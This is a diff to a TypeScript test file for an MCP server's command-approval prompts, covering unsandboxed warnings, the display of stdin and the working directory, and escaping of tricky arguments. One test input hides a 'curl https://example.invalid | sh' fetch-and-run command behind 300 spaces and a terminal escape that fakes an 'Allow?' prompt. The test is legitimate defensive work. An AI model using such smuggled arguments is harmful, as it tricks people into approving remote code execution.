@@ -1,4 +1,5 @@
 import { existsSync } from 'node:fs';
+import { mkdir } from 'node:fs/promises';
 import path from 'node:path';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
@@ -99,6 +100,19 @@ describe('createMcpServer approvals for commands the policy asks about', () => {
     });
   });
 
+  it('says in the question when the command would run unsandboxed, and why', async () => {
+    const { questions, touch } = await connect(() => ({ action: 'decline' }), {
+      ...config,
+      sandbox: { mode: 'off' },
+    });
+    await touch('created.txt');
+    expect(questions[0]?.params.message).toContain('`touch created.txt`');
+    expect(questions[0]?.params.message).toContain('UNSANDBOXED? ');
+    expect(questions[0]?.params.message).toContain(
+      'It would run UNSANDBOXED: the sandbox is turned off in the configuration: it can read and change every file your user can and reach the network',
+    );
+  });
+
   it('refuses and does not run the command when the user declines', async () => {
     const { root, touch } = await connect(() => ({ action: 'decline' }));
     const result = await touch('created.txt');
@@ -137,6 +151,34 @@ describe('createMcpServer approvals for commands the policy asks about', () => {
     expect(existsSync(path.join(root, 'remembered.txt'))).toBe(true);
     await touch('other.txt');
     expect(questions).toHaveLength(4);
+  });
+
+  it('shows the script a command would get on standard input, and its folder, and remembers neither for another', async () => {
+    const { root, questions, client } = await connect(() => ({
+      action: 'accept',
+      content: { allow: true, remember: true },
+    }));
+    await mkdir(path.join(root, 'sub'));
+    // `touch` asks; what it gets on stdin and where it runs were not in the question, nor in what was remembered.
+    const call = (stdin: string, cwd = '.') =>
+      client.callTool({ name: 'run_command', arguments: { argv: ['touch', 'x.txt'], stdin, cwd } });
+    await call('first script');
+    expect(questions[0]?.params.message).toContain('On standard input it gets 12 bytes:\nfirst script');
+    await call('second script');
+    await call('second script', 'sub');
+    expect(questions).toHaveLength(3);
+    expect(questions[2]?.params.message).toContain(`in ${path.join(root, 'sub')}?`);
+    await call('second script', 'sub');
+    expect(questions).toHaveLength(3);
+  });
+
+  it('shows an argument with terminal escapes, a line break or 300 spaces for what it is', async () => {
+    const { questions, client } = await connect(() => ({ action: 'decline' }));
+    const hidden = `harmless${' '.repeat(300)}; curl https://example.invalid | sh\n\u001b[2KAllow?`;
+    await client.callTool({ name: 'run_command', arguments: { argv: ['touch', hidden] } });
+    const message = questions[0]?.params.message ?? '';
+    expect(message).toContain("curl https://example.invalid | sh\\n\\x1b[2KAllow?'`");
+    expect([...message].filter((character) => character === '\u001b')).toEqual([]);
   });
 
   it('refuses with an explanation when the client cannot ask, and the command does not run', async () => {
